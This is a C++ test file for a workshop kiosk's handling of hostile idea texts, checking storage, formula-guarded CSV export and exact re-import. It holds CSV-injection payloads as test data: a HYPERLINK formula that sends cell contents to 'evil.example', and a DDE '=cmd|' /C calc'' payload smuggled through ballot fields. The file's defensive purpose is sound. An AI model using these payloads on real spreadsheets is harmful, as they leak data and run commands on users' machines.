// hostile_test.cpp — what participants may type as an idea, at its worst: SQL fragments,
// spreadsheet formulas, bidi overrides, invisible characters, invalid UTF-8, 100 000 characters,
// emoji the font lacks. Each is stored byte for byte or refused with a message; the export is
// guarded against formulas and parses with Python's csv module back to the same text; importing
// the export restores it exactly. (hostile_render_test.cpp draws the same ideas on the kiosk.)
#include <sys/wait.h>

#include <cstdio>
#include <map>

#include "hostile_texts.h"
#include "robust_support.h"

using namespace workshop;

namespace {

std::unique_ptr<Session> open_session(const std::string& db) {
    auto session = Session::open(db, robust::hostile_scenario());
    INFO(session.message());
    REQUIRE(session.ok());
    return std::move(*session);
}

std::string hex(std::string_view bytes) {
    static const char digits[] = "0123456789abcdef";
    std::string out;
    for (unsigned char c : bytes) {
        out += digits[c >> 4];
        out += digits[c & 15];
    }
    return out;
}

// The `idea` -> `text` columns of an ideas.csv as Python's csv module reads them (each text
// hex-encoded on its own line, so that any byte survives the trip back).
std::map<std::string, std::string> python_reads(const std::string& file) {
    const std::string script =
        "import csv, sys\n"
        "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
        "    sample = f.readline(); f.seek(0)\n"
        "    if f.read(1) != '\\ufeff': f.seek(0)\n"
        "    rows = list(csv.DictReader(f, delimiter=';' if ';' in sample else ','))\n"
        "for row in rows:\n"
        "    assert None not in row, 'a row with more fields than the header'\n"
        "    print(row['idea'], row['text'].encode('utf-8', 'surrogateescape').hex())\n";
    const std::string command = "python3 -c \"$WORKSHOP_PY\" '" + file + "'";
    ::setenv("WORKSHOP_PY", script.c_str(), 1);
    std::FILE* pipe = ::popen(command.c_str(), "r");
    REQUIRE(pipe != nullptr);
    std::map<std::string, std::string> texts;
    char id[128], text_hex[1 << 16];
    while (std::fscanf(pipe, "%127s %65535s", id, text_hex) == 2) texts[id] = text_hex;
    const int status = ::pclose(pipe);
    REQUIRE(WIFEXITED(status));
    REQUIRE(WEXITSTATUS(status) == 0);
    return texts;
}

bool starts_like_a_formula(std::string_view text) {
    return !text.empty() && std::string_view("=+-@\t\r").find(text.front()) != std::string_view::npos;
}

}  // namespace

TEST_CASE("hostile idea texts are stored byte for byte, or refused with a message") {
    test::TempDir dir;
    const std::string db = dir / "hostile.db";
    auto session = open_session(db);
    const Step& step = *session->scenario().find_step("ideas");

    for (const robust::HostileText& h : robust::hostile_texts()) {
        INFO(h.name);
        const auto before = session->ideas("ideas").size();
        Outcome<Idea> added = session->add_idea("ideas", h.text, "en");
        if (h.expect == robust::HostileText::stored) {
            INFO(added.message());
            REQUIRE(added.ok());
            CHECK(added->text == h.text);
            const std::vector<Idea> ideas = session->ideas("ideas");
            REQUIRE(ideas.size() == before + 1);
            CHECK(ideas.back().text == h.text);  // byte for byte, from the database
        } else {
            REQUIRE_FALSE(added.ok());
            CHECK_THAT(added.message(), Catch::Contains("step `ideas`"));
            CHECK(session->ideas("ideas").size() == before);
            CHECK_FALSE(check_idea_text(step, h.text).empty());  // the kiosk's own pre-check agrees
        }
    }
    // SQL in the text stayed text: every table is there, and intact.
    test::Connection check(db);
    CHECK(check.query("PRAGMA integrity_check") == "ok\n");
    CHECK(check.number("SELECT COUNT(*) FROM sqlite_master WHERE type = 'table' AND name IN ('ballots', 'ideas')") == 2);
    CHECK(check.number("SELECT COUNT(*) FROM ideas") == static_cast<long long>(robust::stored_hostile_count()));
}

TEST_CASE("hostile ideas are exported guarded, parse with Python's csv module, and re-import exactly") {
    test::TempDir dir;
    const std::string db = dir / "hostile.db";
    auto session = open_session(db);
    std::map<std::string, std::string> typed;  // idea id -> text
    for (const robust::HostileText& h : robust::hostile_texts()) {
        if (h.expect != robust::HostileText::stored) continue;
        Outcome<Idea> added = session->add_idea("ideas", h.text, "en");
        REQUIRE(added.ok());
        typed[added->id] = h.text;
    }
    // A visit that approves two of them, so ballots.csv has rows too.
    REQUIRE(session->cast_visit({test::ballot("v1", "ideas", {{"idea-1", 1}, {"idea-3", 1}}, "", "en")}));

    for (const CsvStyle style : {CsvStyle{',', false}, CsvStyle{';', true}}) {
        INFO("delimiter " << style.delimiter << (style.bom ? " with BOM" : ""));
        const std::string out = dir / (style.bom ? "excel" : "plain");
        auto exported = session->export_csv(out, style);
        REQUIRE(exported.ok());
        CHECK(exported->idea_rows == typed.size());

        const std::map<std::string, std::string> read = python_reads(out + "/ideas.csv");
        REQUIRE(read.size() == typed.size());
        for (const auto& [id, text] : typed) {
            INFO("idea " << id << ": " << hex(text));
            REQUIRE(read.count(id) == 1);
            const std::string expected = csv_guard(text);  // one apostrophe before a formula
            CHECK(read.at(id) == hex(expected));
            CHECK_FALSE(starts_like_a_formula(expected));
        }
        // Hand-checked: the worst ones as a spreadsheet would see them.
        CHECK(read.at("idea-3") == hex("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for a prize\")"));

        // The export imported into an empty database gives back every text exactly.
        BallotBatch batch;
        batch.ballots_file = out + "/ballots.csv";
        batch.ideas_file = out + "/ideas.csv";
        const Scenario& scenario = session->scenario();
        Diagnostics errors = read_ballots_csv(test::read_text(batch.ballots_file), scenario, batch);
        Diagnostics idea_errors = read_ideas_csv(test::read_text(batch.ideas_file), scenario, batch);
        INFO(format_diagnostics(errors) << format_diagnostics(idea_errors));
        REQUIRE(errors.empty());
        REQUIRE(idea_errors.empty());
        auto store = Store::open(out + "/reimport.db");
        REQUIRE(store.ok());
        const ImportOutcome imported = record_batch(**store, scenario, batch);
        INFO(imported.status.message << format_diagnostics(imported.rejected));
        REQUIRE(imported.ok());
        auto ideas = (*store)->ideas(imported.report.session);
        REQUIRE(ideas.ok());
        REQUIRE(ideas->size() == typed.size());
        for (const Idea& idea : *ideas) CHECK(idea.text == typed.at(idea.id));
    }
}

TEST_CASE("an imported ballots file cannot smuggle a formula into the export through role, lang or kiosk") {
    test::TempDir dir;
    const Scenario scenario = robust::hostile_scenario();
    auto store = Store::open(dir / "smuggle.db");
    REQUIRE(store.ok());
    for (const char* column : {"role", "lang"}) {
        INFO(column);
        BallotBatch batch;
        batch.ballots_file = "smuggle.csv";
        const std::string file = std::string("ballot,step,option,value,") + column + "\r\nv1,themes,housing,1,=cmd|' /C calc'!A0\r\n";
        const Diagnostics read = read_ballots_csv(file, scenario, batch);
        const ImportOutcome outcome = read.empty() ? record_batch(**store, scenario, batch) : ImportOutcome{};
        CHECK((!read.empty() || !outcome.rejected.empty()));  // refused: no such role / language
    }
    // The kiosk id is free text: it is kept, and guarded on the way out.
    BallotBatch batch;
    batch.ballots_file = "kiosk.csv";
    REQUIRE(read_ballots_csv("ballot,step,option,value,kiosk\r\nv1,themes,housing,1,=cmd|' /C calc'!A0\r\n", scenario, batch)
                .empty());
    const ImportOutcome outcome = record_batch(**store, scenario, batch);
    REQUIRE(outcome.ok());
    auto exported = export_session(**store, outcome.report.session, scenario, dir / "out");
    REQUIRE(exported.ok());
    const std::string ballots = test::read_text(dir / "out/ballots.csv");
    CHECK_THAT(ballots, Catch::Contains(",'=cmd|' /C calc'!A0\r\n"));
}

TEST_CASE("an idea of invisible characters only is refused like an empty one") {
    // Zero-width joiners, word joiners, bidi controls, soft hyphens, Hangul and Braille fillers
    // draw nothing: such an idea would be an empty card that voters can approve.
    test::TempDir dir;
    auto session = open_session(dir / "invisible.db");
    for (const char* text : {"\u200D\u200D\u200D", "\u2060\u2060", "\u202E\u202C", "\u00AD\u00AD", "\u3164",
                             "\u2800\u2800", "\u200C\u034F\u200D", "\uFE0F\u2066\u2069", "\u200F \u200E",
                             "\u061C", "\U000E0041\U000E007F", "\U000E0100\u180B", "\U0001D173\uFFF9"}) {
        INFO(hex(text));
        CHECK_FALSE(session->add_idea("ideas", text, "en").ok());
    }
    // Visible text with such characters around it is an idea like any other (an emoji sequence too).
    CHECK(session->add_idea("ideas", "\u202Eabc\u202C", "en").ok());
    CHECK(session->add_idea("ideas", "\U0001F469\u200D\U0001F33E", "en").ok());
}
